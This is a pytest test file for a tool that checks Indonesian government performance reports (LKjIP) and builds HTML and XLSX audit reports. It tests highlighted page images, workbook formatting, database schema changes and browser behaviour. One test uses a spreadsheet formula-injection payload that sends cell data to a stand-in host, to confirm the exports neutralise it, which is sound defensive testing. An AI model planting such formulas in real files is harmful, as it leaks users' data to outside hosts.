"""`kinerja report` end to end: a PDF LKjIP with slips and a text LKjIP with one slip of each kind
are scanned, the report is written from the scan's folder (and from its database, as a later store
might shape it), and the HTML, the page images and the XLSX are read back: images checked by their
pixels, the workbook with openpyxl, the page in real headless Chromium."""

from __future__ import annotations

import csv
import json
import os
import re
import shutil
import sqlite3
from pathlib import Path

import cv2
import numpy as np
import openpyxl
import pymupdf
import pytest
from typer.testing import CliRunner

from kinerja.cli import app
from kinerja.export import write_csv, write_xlsx
from kinerja.report.xlsx import PERCENT, RUPIAH

ROOT = Path(__file__).resolve().parent.parent
PDF = ROOT / "samples" / "pdf" / "004_22ba43ded69af889.pdf"  # LKjIP, 96 pages, slips in its tables
TEXT = ROOT / "samples" / "text" / "checks_slips_lkjip.txt"
IN_CI = bool(os.environ.get("CI"))
SHEETS = ["Ringkasan", "Temuan", "Indikator", "Anggaran"]


def _jsonl(path: Path) -> list[dict]:
    return [json.loads(line) for line in path.read_text(encoding="utf-8").splitlines() if line.strip()]


def _run(*args: str) -> str:
    result = CliRunner().invoke(app, list(args))
    assert result.exit_code == 0, result.output
    return result.output


@pytest.fixture(scope="module")
def scanned(tmp_path_factory) -> Path:
    out = tmp_path_factory.mktemp("scan") / "out"
    _run("scan", str(PDF), str(TEXT), "--out", str(out), "--no-ocr", "--quiet", "--jobs", "1")
    return out


@pytest.fixture(scope="module")
def report(scanned, tmp_path_factory) -> Path:
    out = tmp_path_factory.mktemp("report") / "report"
    _run("report", str(scanned), "--out", str(out))
    return out


def _row_html(html: str, finding_id: str) -> str:
    m = re.search(rf'<tr id="f\d+"[^>]*data-finding="{re.escape(finding_id)}">(.*?)</tr>', html, re.S)
    assert m, finding_id
    return m.group(1)


def _amber_box(png: Path) -> tuple[int, int, int, int]:
    """Bounding box of the highlight's amber fill (white paper under 35 % amber)."""
    img = cv2.imread(str(png))
    b, g, r = img[..., 0].astype(int), img[..., 1].astype(int), img[..., 2].astype(int)
    ys, xs = np.nonzero((r > 235) & (g > 225) & (g < 250) & (b > 140) & (b < 190))
    assert len(xs), f"no highlight in {png}"
    return xs.min(), ys.min(), xs.max(), ys.max()


def test_findings_link_to_their_page_with_the_cited_row_highlighted(scanned, report):
    html = (report / "index.html").read_text(encoding="utf-8")
    assert "<script src" not in html and "<link" not in html and "http" not in html.split("<main>")[0]  # nothing fetched
    findings = _jsonl(scanned / "findings.jsonl")
    indicators = {r["record_id"]: r for r in _jsonl(scanned / "indicators.jsonl")}
    pdf_findings = [f for f in findings if f["source_path"].endswith(".pdf") and f["page"]]
    assert len(pdf_findings) >= 20
    for f in pdf_findings:  # under the image limit: every PDF finding with a page links to an image of that page
        row = _row_html(html, f["finding_id"])
        m = re.search(r'data-img="(halaman/[^"]+-p(\d+)-\d+\.png)"', row)
        assert m and int(m.group(2)) == f["page"], row[-400:]
        assert (report / m.group(1)).is_file()
    # a capaian slip names one indicator row: the image marks exactly that row's bbox
    slip = next(f for f in pdf_findings if f["rule"] == "capaian" and f["severity"] == "error" and len(f["record_ids"]) == 1)
    rec = indicators[slip["record_ids"][0]]
    png = report / re.search(r'data-img="([^"]+)"', _row_html(html, slip["finding_id"])).group(1)
    with pymupdf.open(PDF) as doc:
        width = doc[slip["page"] - 1].rect.width
    zoom = cv2.imread(str(png)).shape[1] / width
    x0, y0, x1, y1 = _amber_box(png)
    # the cells the finding cites (Finding.evidence), else the row it names
    boxes = [e["bbox"] for e in slip.get("evidence") or [] if e.get("bbox") and e.get("role") != "part"] or [rec["bbox"]]
    cited = (min(b[0] for b in boxes), min(b[1] for b in boxes), max(b[2] for b in boxes), max(b[3] for b in boxes))
    bx0, by0, bx1, by1 = (v * zoom for v in cited)
    assert abs(x0 - bx0) <= 6 and abs(y0 - by0) <= 6 and abs(x1 - bx1) <= 6 and abs(y1 - by1) <= 6


def test_text_inputs_get_the_printed_lines_instead_of_an_image(scanned, report):
    html = (report / "index.html").read_text(encoding="utf-8")
    lines = TEXT.read_text(encoding="utf-8").split("\n")
    text_findings = [f for f in _jsonl(scanned / "findings.jsonl") if f["source_path"].endswith(".txt") and f["line"]]
    assert text_findings
    for f in text_findings:
        row = _row_html(html, f["finding_id"])
        assert "data-img" not in row
        cited = lines[f["line"] - 1].replace("&", "&amp;").replace("<", "&lt;").replace(">", "&gt;").replace('"', "&#34;")
        assert f"<mark>{cited}</mark>" in row, f["line"]


def test_summary_names_each_document_with_its_findings_by_severity(scanned, report):
    html = (report / "index.html").read_text(encoding="utf-8")
    docs = _jsonl(scanned / "documents.jsonl")
    findings = _jsonl(scanned / "findings.jsonl")
    summary = html.split('id="t-summary"')[1].split("</table>")[0]
    for d in docs:
        row = re.search(rf"<tr[^>]*>(?:(?!</tr>).)*{re.escape(Path(d['source_path']).name)}(?:(?!</tr>).)*</tr>", summary, re.S).group(0)
        assert (d["title"] or "") in row and "<td>terbaca</td>" in row  # status ok, in Indonesian
        for severity in ("error", "warning", "info"):
            n = sum(f["severity"] == severity and f["source_path"] == d["source_path"] for f in findings)
            assert f'data-v="{n}"' in row


def test_workbook_for_auditors(scanned, report):
    wb = openpyxl.load_workbook(report / "laporan.xlsx")
    assert wb.sheetnames == SHEETS
    for ws in wb:
        assert ws.freeze_panes == "A2"
        assert ws.auto_filter.ref == f"A1:{ws.cell(1, ws.max_column).column_letter}{ws.max_row}"
        assert all(ws.column_dimensions[c.column_letter].width >= 7 for c in ws[1])
    head = {ws.title: [c.value for c in ws[1]] for ws in wb}
    assert {"Tingkat", "Aturan", "Hlm.", "Tertulis", "Seharusnya", "Uraian", "Teks tercetak"} <= set(head["Temuan"])
    assert {"Dokumen", "Judul", "Instansi", "Tahun", "Halaman"} <= set(head["Ringkasan"])

    budget = {r["record_id"]: r for r in _jsonl(scanned / "budget.jsonl")}
    ws = wb["Anggaran"]
    col = {h: i for i, h in enumerate(head["Anggaran"])}
    rows = list(ws.iter_rows(min_row=2))
    assert len(rows) == len(budget)
    for row in rows:
        rec = budget[row[col["ID baris"]].value]
        cell = row[col["Anggaran (Rp)"]]
        if rec["anggaran"] is not None:
            assert cell.value == rec["anggaran"] and cell.number_format == RUPIAH
        if rec["persen"] is not None:
            assert row[col["Persen (%)"]].number_format == PERCENT

    # each finding beside the rows it concerns, and linked both ways
    findings = _jsonl(scanned / "findings.jsonl")
    sheet_rows = {}
    for name in ("Indikator", "Anggaran"):
        c = {h: i for i, h in enumerate(head[name])}
        for row in wb[name].iter_rows(min_row=2):
            sheet_rows[row[c["ID baris"]].value] = (name, row, c)
    temuan = {r[head["Temuan"].index("ID")].value: r for r in wb["Temuan"].iter_rows(min_row=2)}
    checked = 0
    for f in findings:
        if not f["record_ids"]:
            continue
        name, row, c = sheet_rows[f["record_ids"][0]]
        assert f["message"] in row[c["Temuan pada baris ini"]].value
        assert row[c["Tingkat temuan"]].value in ("kesalahan", "peringatan", "info")
        link = temuan[f["finding_id"]][head["Temuan"].index("Baris yang dimaksud")]
        assert link.hyperlink is not None and link.hyperlink.location == f"'{name}'!A{row[0].row}"
        checked += 1
    assert checked >= 20
    capaian = head["Indikator"].index("Capaian (%)")
    assert any(r[capaian].number_format == PERCENT for r in wb["Indikator"].iter_rows(min_row=2) if r[capaian].value is not None)


def test_formula_text_is_kept_as_text(scanned, tmp_path):
    out = tmp_path / "out"
    shutil.copytree(scanned, out)
    rows = _jsonl(out / "indicators.jsonl")
    evil = '=HYPERLINK("http://example.invalid/?x="&A1,"klik")'
    rows[0]["indikator"] = evil
    rows[1]["indikator"] = "-"  # a dash for "none" stays as printed
    (out / "indicators.jsonl").write_text("".join(json.dumps(r) + "\n" for r in rows), encoding="utf-8")
    _run("report", str(out), "--out", str(tmp_path / "report"), "--max-images", "0")
    ws = openpyxl.load_workbook(tmp_path / "report" / "laporan.xlsx")["Indikator"]
    col = [c.value for c in ws[1]].index("Indikator") + 1
    cells = {ws.cell(r, col).value: ws.cell(r, col) for r in range(2, ws.max_row + 1)}
    assert cells[evil].data_type == "s" and cells[evil].quotePrefix
    assert not cells["-"].quotePrefix

    write_csv([{"a": evil, "b": "-", "c": "-5,2", "d": "@SUM(A1)", "e": "+62 21"}], list("abcde"), tmp_path / "x.csv")
    with (tmp_path / "x.csv").open(encoding="utf-8-sig", newline="") as f:
        assert list(csv.DictReader(f)) == [{"a": "'" + evil, "b": "-", "c": "-5,2", "d": "'@SUM(A1)", "e": "+62 21"}]
    write_xlsx({"indicators": [{"indikator": evil}]}, tmp_path / "x.xlsx")
    ws = openpyxl.load_workbook(tmp_path / "x.xlsx")["indicators"]
    cell = ws.cell(2, [c.value for c in ws[1]].index("indikator") + 1)
    assert cell.value == evil and cell.data_type == "s"


def _later_store(db: Path) -> None:
    """The database as a later store may shape it: money as INTEGER, a schema version table, a
    new record field, and findings that carry section, names and evidence themselves (each change
    made only where the store does not do it already)."""
    con = sqlite3.connect(db)
    with con:
        cols = [(r[1], r[2]) for r in con.execute("PRAGMA table_info(budget)")]
        if any(n == "anggaran" and t.upper() != "INTEGER" for n, t in cols):
            types = {n: "INTEGER" if n in ("anggaran", "realisasi") else t for n, t in cols}
            con.execute("ALTER TABLE budget RENAME TO budget_old")
            con.execute(f"CREATE TABLE budget ({', '.join(f'{n} {types[n]}' for n, _ in cols)})")
            con.execute("INSERT INTO budget SELECT " + ", ".join(
                f"CAST(ROUND({n}) AS INTEGER)" if types[n] == "INTEGER" and n in ("anggaran", "realisasi") else n for n, _ in cols
            ) + " FROM budget_old")
            con.execute("DROP TABLE budget_old")
        con.execute("CREATE TABLE IF NOT EXISTS schema_version (version INTEGER)")
        con.execute("INSERT INTO schema_version VALUES (3)")
        have = {t: {r[1] for r in con.execute(f"PRAGMA table_info({t})")} for t in ("indicators", "findings")}
        for table, name in [("indicators", "sumber_data"), ("indicators", "extra"), ("findings", "section"),
                            ("findings", "names"), ("findings", "evidence")]:
            if name not in have[table]:
                con.execute(f"ALTER TABLE {table} ADD COLUMN {name} TEXT")
        con.execute("UPDATE indicators SET sumber_data = 'Laporan bidang'")
        con.execute("""UPDATE indicators SET extra = '{"Lokasi": "Kab. Contoh"}'""")
    con.close()


def test_database_of_a_later_store_is_read_by_column_name(scanned, tmp_path):
    db = tmp_path / "kinerja.sqlite"
    con = sqlite3.connect(scanned / "kinerja.sqlite")
    con.execute(f"VACUUM INTO '{db}'")  # a copy without the scan's -wal file
    con.close()
    _later_store(db)
    findings = _jsonl(scanned / "findings.jsonl")
    indicators = {r["record_id"]: r for r in _jsonl(scanned / "indicators.jsonl")}
    slip = next(f for f in findings if f["rule"] == "capaian" and f["source_path"].endswith(".pdf") and len(f["record_ids"]) == 1)
    other = next(r for r in indicators.values() if r["page"] == slip["page"] and r["record_id"] != slip["record_ids"][0] and r["bbox"])
    evidence = [{"page": slip["page"], "bbox": other["bbox"], "text": other["source_text"], "role": "realisasi"}]
    con = sqlite3.connect(db)
    with con:
        con.execute("UPDATE findings SET section = 'Tabel uji', names = ?, evidence = ? WHERE finding_id = ?",
                    (json.dumps({"indikator": "Nama dari temuan"}), json.dumps(evidence), slip["finding_id"]))
    con.close()
    before = sorted(p.name for p in tmp_path.iterdir())
    out = tmp_path / "report"
    _run("report", str(db), "--out", str(out), "--root", str(ROOT))
    assert sorted(p.name for p in tmp_path.iterdir() if p.name != "report") == before  # nothing written beside the database

    html = (out / "index.html").read_text(encoding="utf-8")
    row = _row_html(html, slip["finding_id"])
    assert "Tabel uji" in row and "Nama dari temuan" in row
    png = out / re.search(r'data-img="([^"]+)"', row).group(1)
    with pymupdf.open(PDF) as doc:
        zoom = cv2.imread(str(png)).shape[1] / doc[slip["page"] - 1].rect.width
    x0, y0, x1, y1 = _amber_box(png)  # the finding's own evidence is marked, not its record's row
    assert abs(y0 - other["bbox"][1] * zoom) <= 6 and abs(y1 - other["bbox"][3] * zoom) <= 6

    wb = openpyxl.load_workbook(out / "laporan.xlsx")
    head = [c.value for c in wb["Indikator"][1]]
    assert "Sumber data" in head
    assert wb["Indikator"].cell(2, head.index("Sumber data") + 1).value == "Laporan bidang"
    assert wb["Indikator"].cell(2, head.index("Lokasi") + 1).value == "Kab. Contoh"  # `extra` spreads into columns
    ws = wb["Anggaran"]
    col = [c.value for c in ws[1]].index("Anggaran (Rp)") + 1
    money = [ws.cell(r, col) for r in range(2, ws.max_row + 1) if ws.cell(r, col).value is not None]
    assert money and all(isinstance(c.value, int) and c.number_format == RUPIAH for c in money)


def test_english_and_a_bounded_number_of_images(scanned, tmp_path):
    out = tmp_path / "report"
    _run("report", str(scanned), "--out", str(out), "--lang", "en", "--max-images", "3")
    html = (out / "index.html").read_text(encoding="utf-8")
    assert '<html lang="en">' in html and ">Findings (" in html and "over the image limit" in html
    images = sorted((out / "halaman").glob("*.png"))
    assert len(images) == 3
    linked = re.findall(r'<tr id="f\d+" class="(\w+)"(?:(?!</tr>).)*?data-img=', html, re.S)
    assert linked and set(linked) == {"error"}  # the most severe findings get the images
    assert "Severity" in [c.value for c in openpyxl.load_workbook(out / "laporan.xlsx")["Temuan"][1]]


def test_what_is_not_a_scan_is_refused_clearly(tmp_path):
    (tmp_path / "empty").mkdir()
    (tmp_path / "notes.sqlite").write_text("not a database", encoding="utf-8")
    for source in (tmp_path / "empty", tmp_path / "notes.sqlite", tmp_path / "missing"):
        result = CliRunner().invoke(app, ["report", str(source), "--out", str(tmp_path / "r")])
        assert result.exit_code == 2 and "error:" in result.output, result.output
    assert not (tmp_path / "r" / "index.html").exists()


# --- in a real browser -------------------------------------------------------------------------


@pytest.fixture(scope="module")
def browser():
    chromium = shutil.which("chromium") or shutil.which("chromium-browser")
    if chromium is None:
        if IN_CI:
            pytest.fail("chromium is not installed in CI: install.sh must apt-get install chromium")
        pytest.skip("chromium is not installed (apt-get install chromium); the HTML report is not tried in a browser")
    sync_api = pytest.importorskip("playwright.sync_api", reason="playwright is in the dev extra: pip install -e '.[dev]'")
    with sync_api.sync_playwright() as p:  # the system's Chromium: playwright downloads nothing
        b = p.chromium.launch(executable_path=chromium, args=["--no-sandbox", "--disable-dev-shm-usage"])  # root, small /dev/shm in CI
        yield b
        b.close()


def test_report_in_chromium(report, browser, tmp_path):
    page = browser.new_page(viewport={"width": 1400, "height": 900})
    problems: list[str] = []
    page.on("console", lambda m: problems.append(f"{m.type}: {m.text}") if m.type in ("error", "warning") else None)
    page.on("pageerror", lambda e: problems.append(f"pageerror: {e}"))
    page.on("requestfailed", lambda r: problems.append(f"request failed: {r.url}"))
    page.goto((report / "index.html").as_uri())
    page.screenshot(path=str(tmp_path / "summary.png"))

    page.click("nav button[data-tab=findings]")
    link = page.locator("#t-findings a.ev[data-img]").first
    href = link.get_attribute("data-img")
    link.click()  # one click from a finding to its page
    page.wait_for_selector("#viewer[open]")
    loaded = page.evaluate("""() => { const i = document.querySelector('#viewer-img');
        return [i.hidden, i.complete, i.naturalWidth, i.getAttribute('src')]; }""")
    assert loaded[0] is False and loaded[1] and loaded[2] > 500 and loaded[3] == href
    page.screenshot(path=str(tmp_path / "evidence.png"))
    page.keyboard.press("Escape")
    assert page.evaluate("document.querySelector('#viewer').open") is False

    page.locator("#t-findings a.ev:not([data-img])").first.click()  # a text input: its printed lines
    assert page.locator("#viewer[open] #viewer-text mark").count() >= 1
    page.keyboard.press("Escape")

    page.click("#t-findings thead th:nth-child(5)")  # sort by page
    pages = page.evaluate("""() => Array.from(document.querySelectorAll('#t-findings tbody tr'))
        .map(r => parseFloat(r.cells[4].dataset.v))""")
    assert pages == sorted(pages)
    total = len(pages)
    page.fill("input.q[data-for=t-findings]", "capaian")
    shown = page.evaluate("Array.from(document.querySelectorAll('#t-findings tbody tr')).filter(r => !r.hidden).length")
    assert 0 < shown < total
    assert page.inner_text(".count[data-for=t-findings]").startswith(f"{shown} / {total}")

    page.click("nav button[data-tab=indicators]")
    badge = page.locator("#t-indicators a.fl").first
    target = badge.get_attribute("href")[1:]
    badge.click()  # from an indicator row to the finding about it
    assert page.locator(f"#findings tr#{target}").is_visible()
    page.close()
    assert problems == []


def test_a_page_with_rotate_set_is_drawn_the_way_the_reader_read_it(scanned, tmp_path):
    """/Rotate turns the displayed page; the reader's boxes are in the unrotated page's points
    turned upright by the text direction, and the image must be drawn in the same space."""
    slip = next(f for f in _jsonl(scanned / "findings.jsonl") if f["rule"] == "capaian" and f["source_path"].endswith(".pdf"))
    one = tmp_path / "rotated.pdf"
    with pymupdf.open(PDF) as src, pymupdf.open() as doc:
        doc.insert_pdf(src, from_page=slip["page"] - 1, to_page=slip["page"] - 1)
        doc[0].set_rotation(90)
        doc.save(one)
    out = tmp_path / "out"
    _run("scan", str(one), "--out", str(out), "--no-ocr", "--quiet")
    found = next(f for f in _jsonl(out / "findings.jsonl") if f["stated"] == slip["stated"] and f["rule"] == "capaian")
    rec = next(r for r in _jsonl(out / "indicators.jsonl") if r["record_id"] == found["record_ids"][0])
    _run("report", str(out), "--out", str(tmp_path / "report"))
    html = (tmp_path / "report" / "index.html").read_text(encoding="utf-8")
    png = tmp_path / "report" / re.search(r'data-img="([^"]+)"', _row_html(html, found["finding_id"])).group(1)
    img = cv2.imread(str(png))
    with pymupdf.open(one) as doc:
        unrotated = doc[0].mediabox
    assert img.shape[1] > img.shape[0]  # not the displayed (portrait) page: the upright text's page
    zoom = img.shape[1] / unrotated.width
    x0, y0, x1, y1 = _amber_box(png)
    # the cells the finding cites (Finding.evidence), else the row it names
    boxes = [e["bbox"] for e in slip.get("evidence") or [] if e.get("bbox") and e.get("role") != "part"] or [rec["bbox"]]
    cited = (min(b[0] for b in boxes), min(b[1] for b in boxes), max(b[2] for b in boxes), max(b[3] for b in boxes))
    bx0, by0, bx1, by1 = (v * zoom for v in cited)
    assert abs(x0 - bx0) <= 6 and abs(y0 - by0) <= 6 and abs(x1 - bx1) <= 6 and abs(y1 - by1) <= 6
